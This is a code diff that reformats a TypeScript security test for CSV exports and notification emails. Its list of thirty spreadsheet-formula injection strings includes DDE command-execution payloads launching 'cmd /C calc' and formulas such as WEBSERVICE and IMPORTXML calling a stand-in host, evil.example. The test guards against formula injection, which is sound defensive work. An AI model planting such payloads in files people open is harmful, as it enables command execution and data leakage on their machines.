@@ -13,11 +13,37 @@ import { createWords } from './words.ts'
 
 /** Thirty texts that a spreadsheet would run: formulas, calls of programs, and what only looks like an empty beginning. */
 const formulas = [
-  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|"/C calc"!A0', '+cmd|"/C calc"!A0', '-cmd|"/C calc"!A0', '@cmd|"/C calc"!A0',
-  '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
-  '=DDE("cmd";"/C calc";"x")', '=2+5+cmd|"/C calc"!A0', "='1'+1", '=";=1+1', '=1+1;=1+1', '=1+1,=1+1', '"=1+1', "'=1+1", ';=1+1',
-  '-2+3+cmd|"/C calc"!D2', '+(1)', '--1', '=-1', '=+1', '=@A1', '=A1&B1', '@A1', '+A1', '-A1',
-] // prettier-ignore
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '=cmd|"/C calc"!A0',
+  '+cmd|"/C calc"!A0',
+  '-cmd|"/C calc"!A0',
+  '@cmd|"/C calc"!A0',
+  '=HYPERLINK("http://evil.example","x")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/C calc";"x")',
+  '=2+5+cmd|"/C calc"!A0',
+  "='1'+1",
+  '=";=1+1',
+  '=1+1;=1+1',
+  '=1+1,=1+1',
+  '"=1+1',
+  "'=1+1",
+  ';=1+1',
+  '-2+3+cmd|"/C calc"!D2',
+  '+(1)',
+  '--1',
+  '=-1',
+  '=+1',
+  '=@A1',
+  '=A1&B1',
+  '@A1',
+  '+A1',
+  '-A1',
+]
 
 interface Sent {
   readonly subject: string | null
@@ -46,7 +72,10 @@ const sentMessages = async (house: TenantHouse): Promise<Sent[]> => {
   } finally {
     await jobs.stop()
   }
-  const rows = await run<Sent & { sealed: Buffer | null }>(house.owner.db, 'select subject, body, html, sealed from notifications.messages') // prettier-ignore
+  const rows = await run<Sent & { sealed: Buffer | null }>(
+    house.owner.db,
+    'select subject, body, html, sealed from notifications.messages',
+  )
   return rows.map((row) => ({ ...row, ...contentOf(house.server.house.settings, row as never) }))
 }
 
@@ -57,7 +86,9 @@ const ourTags =
 const strangeMarkup = (html: string): string[] =>
   [...html.matchAll(/<([^\s>]+)([^>]*)>/g)].flatMap(([tag, name = '', rest = '']) => {
     const addresses = [...rest.matchAll(/(?:href|src)="([^"]*)"/gi)].map(([, address = '']) => address)
-    const elsewhere = addresses.filter((address) => !/^(https?:\/\/[\w.-]+\.(localhost|example)[:/]|mailto:|tel:|cid:)/.test(address)) // prettier-ignore
+    const elsewhere = addresses.filter(
+      (address) => !/^(https?:\/\/[\w.-]+\.(localhost|example)[:/]|mailto:|tel:|cid:)/.test(address),
+    )
     const acts = /\son\w+\s*=/i.test(rest.replaceAll(/"[^"]*"/g, '""'))
     return ourTags.test(name) && !acts && elsewhere.length === 0 ? [] : [tag]
   })
@@ -87,7 +118,12 @@ describe.each([
   const files = (type: string) => routes.map(({ endpoint }) => endpoint).filter(({ produces }) => produces === type)
   const fetched = (endpoint: Endpoint) => {
     const params = { ...paramsFor(endpoint, house.mine), ledger: 'all' }
-    return ask(house, endpoint, { kind: kindOf(endpoint), user_uuid: userOf(endpoint), params, query: queryFor(endpoint, house.mine) }) // prettier-ignore
+    return ask(house, endpoint, {
+      kind: kindOf(endpoint),
+      user_uuid: userOf(endpoint),
+      params,
+      query: queryFor(endpoint, house.mine),
+    })
   }
 
   test('[S3] no cell of any CSV begins as a formula, and what was typed is there', async () => {
